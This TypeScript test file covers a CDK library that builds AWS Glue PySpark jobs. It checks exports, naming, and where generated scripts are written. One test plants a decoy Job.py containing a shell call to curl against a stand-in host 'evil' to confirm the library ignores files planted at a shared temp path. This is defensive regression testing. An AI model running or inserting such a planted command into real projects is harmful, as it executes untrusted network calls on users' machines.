import { createHash } from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as ts from 'typescript';
import { App, Stack } from 'aws-cdk-lib';
import * as gluekit from '../../lib';
import { Pipeline, PipelineJob } from '../../lib';
import { generatePySparkScript } from '../../lib/pipeline/pyspark';

const root = path.resolve(__dirname, '..', '..');

/** The names a module exports, types included, as the TypeScript checker sees them. */
function exportedNames(program: ts.Program, file: string): string[] {
  const checker = program.getTypeChecker();
  const source = program.getSourceFile(file);
  if (!source) throw new Error(`${file} is not in the program`);
  return checker.getExportsOfModule(checker.getSymbolAtLocation(source)!).map((s) => s.name).sort();
}

test('lib/index.ts exports the construct API only, and no name clashes with aws-cdk-lib/aws-glue', () => {
  const glueIndex = require.resolve('aws-cdk-lib/aws-glue').replace(/\.js$/, '.d.ts');
  const program = ts.createProgram([path.join(root, 'lib', 'index.ts'), glueIndex], { skipLibCheck: true, noEmit: true, module: ts.ModuleKind.Node16, moduleResolution: ts.ModuleResolutionKind.Node16, target: ts.ScriptTarget.ES2022, types: [] });
  const ours = exportedNames(program, path.join(root, 'lib', 'index.ts'));
  expect(ours).toEqual([
    'AggregateFunction',
    'AggregateSpec',
    'CatalogSinkOptions',
    'CatalogSourceOptions',
    'ChoiceAction',
    'ColumnReference',
    'Crawler',
    'CrawlerProps',
    'FieldMapping',
    'FillMissingValuesOptions',
    'FilterCondition',
    'FilterLiteral',
    'FilterPredicate',
    'Frame',
    'FrameCollection',
    'GlueType',
    'JoinOptions',
    'ManifestWriter',
    'Pipeline',
    'PipelineJob',
    'PipelineJobProps',
    'RelationalizeOptions',
    'ResolveChoiceOptions',
    'S3SinkOptions',
    'S3SourceOptions',
    'S3Target',
    'SchemaChangePolicy',
    'SpigotOptions',
    'SplitRowsOperation',
    'StepOptions',
    'TransformOptions',
    'UnboxCsvOptions',
    'UnionOptions',
    'and',
    'col',
    'or',
  ]);
  const theirs = new Set(exportedNames(program, glueIndex));
  expect(theirs.has('Condition') && theirs.has('Column') && theirs.has('Predicate')).toBe(true);
  expect(ours.filter((n) => theirs.has(n))).toEqual([]);
  // Runtime exports match: no generator, schema or graph helpers.
  expect(Object.keys(gluekit).sort()).toEqual(['ColumnReference', 'Crawler', 'FilterCondition', 'Frame', 'FrameCollection', 'ManifestWriter', 'Pipeline', 'PipelineJob', 'and', 'col', 'or']);
});

test('no public name is abbreviated: a step takes transformationCtx, after awsglue transformation_ctx', () => {
  const p = new Pipeline();
  p.fromS3({ paths: ['s3://b/in/'], format: 'json', transformationCtx: 'source' }).writeToS3({ path: 's3://b/out/', format: 'json', transformationCtx: 'sink' });
  expect(Object.keys(p.graph)).toEqual(['source', 'sink']);
});

test('the library makes no private CDK calls', () => {
  const files = (dir: string): string[] =>
    fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : e.name.endsWith('.ts') ? [path.join(dir, e.name)] : []));
  const offenders = files(path.join(root, 'lib')).filter((f) => /\._[a-zA-Z]+\(/.test(fs.readFileSync(f, 'utf8')));
  expect(offenders.map((f) => path.relative(root, f))).toEqual([]);
});

test('the generated script is written to a private folder, never a shared path trusted when it exists', () => {
  const p = new Pipeline();
  p.fromS3({ paths: ['s3://b/in/'], format: 'json', transformationCtx: 'source' }).writeToS3({ path: 's3://b/out/', format: 'json', transformationCtx: 'sink' });
  // A file planted where gluekit once looked for its script (a shared path, trusted when it existed) must not be used.
  const hash = createHash('sha256').update(generatePySparkScript(p.graph)).digest('hex').slice(0, 16);
  const planted = path.join(os.tmpdir(), 'gluekit-scripts', hash);
  fs.mkdirSync(planted, { recursive: true });
  fs.writeFileSync(path.join(planted, 'Job.py'), 'import os; os.system("curl evil")\n');
  const before = new Set(fs.readdirSync(os.tmpdir()).filter((n) => n.startsWith('gluekit-script-')));
  const outdir = fs.mkdtempSync(path.join(os.tmpdir(), 'gluekit-surface-'));
  try {
    const stack = new Stack(new App({ outdir }), 'S');
    const job = new PipelineJob(stack, 'Job', { pipeline: p });
    // The private folder is gone once the asset is staged into the assembly; the staged file is the script.
    expect(fs.readdirSync(os.tmpdir()).filter((n) => n.startsWith('gluekit-script-') && !before.has(n))).toEqual([]);
    const staged = fs.readdirSync(outdir).filter((n) => n.startsWith('asset.'));
    expect(staged).toHaveLength(1);
    expect(fs.readFileSync(path.join(outdir, staged[0]), 'utf8')).toBe(job.script);
    expect(job.script).toContain('glueContext.create_dynamic_frame.from_options');
  } finally {
    fs.rmSync(outdir, { recursive: true, force: true });
    fs.rmSync(planted, { recursive: true, force: true });
  }
});
